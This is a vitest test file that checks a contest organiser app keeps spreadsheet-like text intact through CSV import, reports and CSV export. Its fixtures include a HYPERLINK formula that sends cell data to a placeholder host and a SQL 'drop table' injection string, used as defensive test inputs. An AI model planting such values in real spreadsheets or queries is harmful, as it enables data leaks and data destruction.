/** 22. Text that a spreadsheet would run, or make a number of: on the way in, in the database and on the way out it is text. */
import { parse } from 'csv-parse/sync';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { ReportResult } from '../../src/contest/organiser-contract.ts';
import { describeServers } from '../support/contract-servers.ts';
import { openTestDatabase, type TestDatabase } from '../support/database.ts';
import { addOrganisers, askAs, finishJob, organisers } from '../support/organisers.ts';
import type { Served } from '../support/served.ts';

const contest = 'cuoc-thi';
const odd = [
  '=HYPERLINK("http://example.com?x="&A1;"bấm vào đây")',
  '+84912345678',
  '-1+1',
  '@SUM(A1:A9)',
  '0012',
  '1e5',
  'TRUE',
  '2026-06-15',
  "'=1+1",
  'a,b;c\td',
  'hai\ndòng',
  '"; drop table contest.units; --',
  `${'🎈'.repeat(10)}${'x'.repeat(190)}`,
];
const tooLong = 'x'.repeat(1000);

/** A table as programs write it: every cell between quotes. */
function toCsv(columns: string[], rows: (string | number | null)[][]): string {
  const line = (cells: (string | number | null)[]) =>
    cells.map((cell) => `"${String(cell ?? '').replaceAll('"', '""')}"`).join(',');
  return [columns, ...rows].map(line).join('\r\n');
}
const readCsv = (text: string) => parse<Record<string, string>>(text, { columns: true });

describe('22. a sheet of odd texts', () => {
  let database: TestDatabase;
  beforeEach(async () => {
    database = await openTestDatabase();
    await addOrganisers(database);
  });
  afterEach(() => database.close());

  async function importCsv(name: 'organiser_import_units' | 'organiser_import_questions', csv: string) {
    const job = await askAs(database, 'editor', name, { contest, rows: readCsv(csv) as never, dry_run: false });
    return finishJob(database, 'editor', job);
  }

  /** Every unit as everybody may read it, from the roots down. */
  async function listUnits(parent?: string): Promise<string[][]> {
    const children = await database.ask('units', { contest, ...(parent === undefined ? {} : { parent }) });
    const rows = [];
    for (const { code, name, kind, has_children } of children) {
      rows.push([code, name, kind, parent ?? '']);
      if (has_children) rows.push(...(await listUnits(code)));
    }
    return rows;
  }

  // Seen to fail with an apostrophe put before `=`, `+`, `-` and `@` in contest.cell, and taken away in
  // contest.report_units.
  test('of units comes out of a report as it went in, and going in again changes nothing', async () => {
    const columns = ['code', 'name', 'kind', 'parent'];
    const rows = odd.map((text, index) => [`=${text.slice(0, 50)}`, text, 'commune', index === 0 ? 'tinh' : 'xa-a']);
    const ended = await importCsv('organiser_import_units', toCsv(columns, rows));
    expect(ended).toMatchObject({ rejected: [], result: { stored: true, added: odd.length, changed: 0 } });

    const { result } = await finishJob(
      database,
      'editor',
      await askAs(database, 'editor', 'organiser_report', { contest }),
    );
    const report = ReportResult.parse(result).tables.find(({ name }) => name === 'units');
    const written = readCsv(toCsv(report?.columns ?? [], report?.rows ?? []));
    expect(written.map(({ code, name }) => [code, name])).toEqual(
      expect.arrayContaining(rows.map(([code, name]) => [code, name])),
    );

    const listed = await listUnits();
    expect(listed).toEqual(expect.arrayContaining(rows));
    expect((await importCsv('organiser_import_units', toCsv(columns, listed))).result).toEqual({
      stored: true,
      added: 0,
      changed: 0,
    });
  });

  // Seen to fail without `name_too_long` in contest.unit_row_problems.
  test('with a name of a thousand letters is rejected by row and column, and nothing of it stored', async () => {
    const csv = toCsv(
      ['code', 'name', 'kind', 'parent'],
      [
        ['xa-c', odd[0] ?? '', 'commune', 'tinh'],
        ['xa-d', tooLong, 'commune', 'tinh'],
      ],
    );
    expect(await importCsv('organiser_import_units', csv)).toMatchObject({
      accepted: 1,
      rejected: [{ row: 2, column: 'name', reason: 'name_too_long', value: tooLong.slice(0, 200) }],
      result: { stored: false },
    });
    expect(await database.ask('find_units', { contest, query: 'hyperlink' })).toEqual([]);
  });

  // Seen to fail with an apostrophe put before `=`, `+`, `-` and `@` in contest.cell.
  test('of questions comes out of the bank as it went in, and going in again changes nothing', async () => {
    const columns = [
      'code',
      'topic',
      'difficulty',
      'prompt',
      'option_a',
      'option_b',
      'option_c',
      'right',
      'explanation',
      'source',
    ];
    const rows = odd.map((text, index) => {
      const other = (by: number) => odd[(index + by) % odd.length] ?? '';
      return [`=${index}`, '@mot', 'easy', text, other(1), other(2), other(3), 'A,C', other(4), other(5)];
    });
    const ended = await importCsv('organiser_import_questions', toCsv(columns, rows));
    expect(ended).toMatchObject({ rejected: [], result: { stored: true, added: odd.length } });

    const bank = await askAs(database, 'editor', 'organiser_questions', { contest, topic: '@mot' });
    const listed = bank.rows.map(({ code, topic, difficulty, prompt, options, right, explanation, source }) => [
      code,
      topic,
      difficulty,
      prompt,
      ...options,
      right.join(),
      explanation,
      source,
    ]);
    expect(listed).toEqual(rows);
    expect((await importCsv('organiser_import_questions', toCsv(columns, listed))).result).toEqual({
      stored: true,
      added: 0,
      replaced: 0,
      changed: 0,
    });
  });
});

describeServers((serve) => {
  let served: Served;
  beforeAll(async () => {
    served = await serve();
    for (const { email, role, units } of Object.values(organisers))
      await served.sql('insert into contest.organisers (email, role, units) values ($1, $2, $3)', [email, role, units]);
    await served.sql(`update contest.units set name = $1 where code in ('xa-a', 'xa-a-chi-bo-1')`, [odd[0]]);
    await served.sql('select contest.derive_unit_tree(id) from contest.contests');
  });
  afterAll(() => served?.stop());

  async function ask(name: string, args: object, accept: string) {
    const reply = await fetch(`${served.url}/rest/v1/rpc/${name}`, {
      method: 'POST',
      headers: {
        apikey: served.keys.publishable,
        authorization: `Bearer ${served.organiserToken(organisers.editor.email)}`,
        'content-type': 'application/json',
        'content-profile': 'api',
        accept,
      },
      body: JSON.stringify(args),
    });
    return { status: reply.status, text: await reply.text() };
  }
  const json = async (name: string, args: object) =>
    JSON.parse((await ask(name, args, 'application/json')).text) as unknown;

  // PostgREST writes CSV for whoever asks for it. Seen to fail with a table for the one JSON value of api.units: its cells
  // begin as the names do.
  test('22. asked for CSV, a server refuses, or writes one cell of JSON that no spreadsheet takes for a formula', async () => {
    const { job } = (await json('organiser_report', { contest })) as { job: string };
    await served.sql('select contest.work_on_jobs()');
    const calls: [string, object][] = [
      ['units', { contest }],
      ['find_units', { contest, query: 'hyperlink' }],
      ['unit_leaderboard', { contest, parent: 'tinh' }],
      ['organiser_job', { job }],
      ['organiser_progress', { contest }],
      ['organiser_questions', { contest }],
    ];
    for (const [name, args] of calls) {
      const expected = await json(name, args);
      const { status, text } = await ask(name, args, 'text/csv');
      expect([200, 415], name).toContain(status);
      if (status !== 200) continue;
      const [, cells, ...more] = parse(text, { relax_column_count: true });
      expect([cells?.length, more], name).toEqual([1, []]);
      expect(cells?.[0], name).toMatch(/^[[{]/);
      // As PostgreSQL writes a row, a backslash is two.
      expect(JSON.parse(cells?.[0]?.replaceAll('\\\\', '\\') ?? ''), name).toEqual(expected);
    }
    expect(JSON.stringify(await json('find_units', { contest, query: 'hyperlink' }))).toContain('=HYPERLINK');
  });
});
